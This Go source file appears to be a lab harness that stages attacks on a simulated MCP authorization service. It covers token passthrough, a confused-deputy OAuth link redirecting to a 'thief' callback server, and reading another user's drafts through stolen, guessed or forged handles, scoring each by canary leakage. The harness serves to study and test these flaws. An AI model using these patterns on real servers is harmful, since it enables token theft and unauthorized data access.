package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"

	"example.com/mcp7/day-06/internal/secret"
)

// tokenPassthrough sends a token that was issued for another server, and looks what the service is shown.
func tokenPassthrough(ctx context.Context, s *stage) (bool, error) {
	leaked := false
	for _, aud := range []string{"https://another.example/mcp", audience} {
		token, err := s.token("alice", aud)
		if err != nil {
			return false, err
		}
		before := s.saw("service")
		_, refused, err := s.call(ctx, "alice", aud, "list_files", map[string]any{})
		if err != nil {
			return false, err
		}
		shown := strings.TrimPrefix(s.saw("service"), before)
		passed := secret.Within(shown, strings.SplitAfterN(token, ".", 2)[1])
		switch {
		case shown != "":
			what := "its own credential"
			if passed {
				what = "the user's token"
			}
			s.report.Flow = append(s.report.Flow, step{From: "deputy", To: "service", Text: "GET /files with " + what, Canary: passed})
		case refused:
			s.stopped("a token for "+aud, errNoEntry.Error())
		}
		leaked = leaked || passed || shown != "" && aud != audience
	}
	return leaked, nil
}

// confusedDeputy is the link of an unknown client, clicked by a user who is logged in and has agreed to another client.
func confusedDeputy(ctx context.Context, s *stage) (bool, error) {
	if err := s.consent(ctx, "alice", "editor", "https://editor.example/callback"); err != nil {
		return false, err
	}
	link := s.deputy + "/authorize?" + url.Values{"client_id": {"unknown-client"}, "redirect_uri": {s.thief.URL + "/callback"}, "state": {"1"}}.Encode()
	s.flow("attacker", "alice", "a link to "+link, s.d.canary)
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, link, nil)
	if err != nil {
		return false, err
	}
	req.AddCookie(&http.Cookie{Name: "session", Value: "alice"})
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		return false, err
	}
	defer res.Body.Close()
	page, err := io.ReadAll(io.LimitReader(res.Body, 1<<16))
	if err != nil {
		return false, err
	}
	if got := s.saw("thief"); got != "" {
		s.flow("service", "attacker", got, s.d.canary)
		return secret.Within(got, s.d.canary), nil
	}
	s.flow("deputy", "alice", string(page), s.d.canary)
	s.stopped("unknown-client", "alice has not agreed to this client")
	return false, nil
}

// consent is what a user's browser sends from the deputy's own page.
func (s *stage) consent(ctx context.Context, user, client, redirect string) error {
	form := url.Values{"client_id": {client}, "redirect_uri": {redirect}}.Encode()
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, s.deputy+"/consent", strings.NewReader(form))
	if err != nil {
		return err
	}
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.AddCookie(&http.Cookie{Name: "session", Value: user})
	s.flow(user, "deputy", "agrees to the client "+client, s.d.canary)
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		return err
	}
	return res.Body.Close()
}

func stolenHandle(ctx context.Context, s *stage) (bool, error) {
	handle, err := s.aliceWrites(ctx)
	if err != nil {
		return false, err
	}
	return s.malloryReads(ctx, map[string]any{"handle": handle})
}

func guessedHandle(ctx context.Context, s *stage) (bool, error) {
	if _, err := s.aliceWrites(ctx); err != nil {
		return false, err
	}
	for n := range 3 {
		got, err := s.malloryReads(ctx, map[string]any{"handle": fmt.Sprintf("draft-%d", n)})
		if got || err != nil {
			return got, err
		}
	}
	return false, nil
}

func borrowedName(ctx context.Context, s *stage) (bool, error) {
	handle, err := s.aliceWrites(ctx)
	if err != nil {
		return false, err
	}
	return s.malloryReads(ctx, map[string]any{"handle": handle, "owner": "alice"})
}

func (s *stage) aliceWrites(ctx context.Context) (handle string, err error) {
	handle, failed, err := s.call(ctx, "alice", audience, "open_draft", map[string]any{"text": "the code word is " + s.d.canary})
	if err == nil && failed {
		err = errors.New("alice could not open a draft: " + handle)
	}
	return handle, err
}

func (s *stage) malloryReads(ctx context.Context, args map[string]any) (bool, error) {
	text, refused, err := s.call(ctx, "mallory", audience, "read_draft", args)
	if refused {
		s.stopped(fmt.Sprintf("read_draft %v", args), text)
	}
	return secret.Within(text, s.d.canary), err
}
